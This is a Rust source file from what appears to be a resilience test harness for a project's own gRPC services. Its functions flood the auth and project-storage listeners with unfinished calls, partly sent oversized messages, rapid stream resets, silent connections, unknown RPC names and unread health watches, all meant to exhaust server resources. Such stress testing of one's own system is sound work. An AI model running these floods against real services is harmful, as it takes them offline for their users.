//! Attacks on the services' gRPC listeners, without a token.

use std::time::Instant;

use anyhow::{Context, Result, ensure};
use bytes::Bytes;

use crate::{
    target::{Scale, Target},
    wire::{self, Frames, WINDOW, call, prefix},
};

/// More than all slots of a service.
const UNFINISHED: usize = 1_030;

/// Calls that begin on one connection and never send their message.
async fn unfinished(target: &Target, service: &'static str, path: &str, scale: Scale) -> Result<()> {
    let to = *target.grpc.get(service).context("no such service")?;
    let mut connections = Vec::new();
    for _ in 0..scale.times {
        let frames = Frames::open(to, WINDOW).await?;
        let mut held = Vec::new();
        for _ in 0..UNFINISHED {
            let Ok(mut send) = frames.send.clone().ready().await else { break };
            held.push(send.send_request(call(to, path, None), false)?);
        }
        connections.push((frames, held));
    }
    tokio::time::sleep(scale.lasts).await;
    Ok(())
}

pub(super) async fn unfinished_health_checks(target: &Target, scale: Scale) -> Result<()> {
    for service in ["auth", "project-storage"] {
        unfinished(target, service, "/grpc.health.v1.Health/Check", scale).await?;
    }
    Ok(())
}

pub(super) async fn bodyless_sign_ins(target: &Target, scale: Scale) -> Result<()> {
    unfinished(target, "auth", "/backlot.auth.v1.AuthService/SignIn", scale).await
}

/// Large messages that are announced, partly sent and never ended.
pub(super) async fn unfinished_messages(target: &Target, scale: Scale) -> Result<()> {
    let to = *target.grpc.get("project-storage").context("no project-storage")?;
    let token = target.attacker.access_token().await?;
    let path = "/backlot.project_storage.v1.ProjectStorageService/SaveProject";
    let mut held = Vec::new();
    for at in 0..8 * scale.times {
        let frames = Frames::open(to, WINDOW).await?;
        let mut send = frames.send.clone().ready().await?;
        let (answer, mut body) = send.send_request(call(to, path, Some(&token)), false)?;
        // One in two is larger than the plan allows and is refused at once.
        // The other end may have refused already.
        _ = body.send_data(prefix(if at % 2 == 0 { 100 * 1024 * 1024 } else { 10 * 1024 * 1024 }), false);
        for _ in 0..9 {
            _ = body.send_data(Bytes::from_static(&[7; 1024 * 1024]), false);
        }
        held.push((frames, answer, body));
    }
    tokio::time::sleep(scale.lasts).await;
    Ok(())
}

pub(super) async fn reset_streams(target: &Target, scale: Scale) -> Result<()> {
    let to = *target.grpc.get("auth").context("no auth")?;
    let closed = wire::reset(to, "/backlot.auth.v1.AuthService/GetKeySet", 60_000, scale).await;
    ensure!(closed > 0, "no connection was closed for its resets");
    Ok(())
}

pub(super) async fn silent_connections(target: &Target, scale: Scale) -> Result<()> {
    let to = *target.grpc.get("auth").context("no auth")?;
    super::http::hold_silent(to, 1_500 * scale.times, scale.lasts).await
}

/// Names of RPCs that do not exist: they may fill nothing.
pub(super) async fn unknown_rpcs(target: &Target, scale: Scale) -> Result<()> {
    let to = *target.grpc.get("auth").context("no auth")?;
    let (mut sent, began) = (0, Instant::now());
    while sent < 2_000 * scale.times || began.elapsed() < scale.lasts {
        let Ok(frames) = Frames::open(to, WINDOW).await else { continue };
        // A hundred at once, until the other end takes no more of this connection.
        while let Ok(mut send) = frames.send.clone().ready().await {
            let mut answers = Vec::new();
            for _ in 0..100 {
                let Ok((answer, _)) = send.send_request(call(to, &format!("/x.y{sent}/Z"), None), true) else { break };
                answers.push(answer);
                sent += 1;
                let Ok(next) = send.ready().await else { break };
                send = next;
            }
            futures::future::join_all(answers).await;
            if sent >= 2_000 * scale.times && began.elapsed() >= scale.lasts {
                return Ok(());
            }
        }
    }
    Ok(())
}

/// Streams that stay open: health watches that nobody reads.
pub(super) async fn open_watches(target: &Target, scale: Scale) -> Result<()> {
    let to = *target.grpc.get("auth").context("no auth")?;
    let mut held = Vec::new();
    for _ in 0..3 * scale.times {
        let frames = Frames::open(to, 0).await?;
        let mut answers = Vec::new();
        for _ in 0..2_000 {
            let Ok(mut send) = frames.send.clone().ready().await else { break };
            let (answer, mut body) = send.send_request(call(to, "/grpc.health.v1.Health/Watch", None), false)?;
            // The other end may have refused already.
            _ = body.send_data(prefix(0), true);
            answers.push(answer);
        }
        held.push((frames, answers));
    }
    tokio::time::sleep(scale.lasts).await;
    Ok(())
}
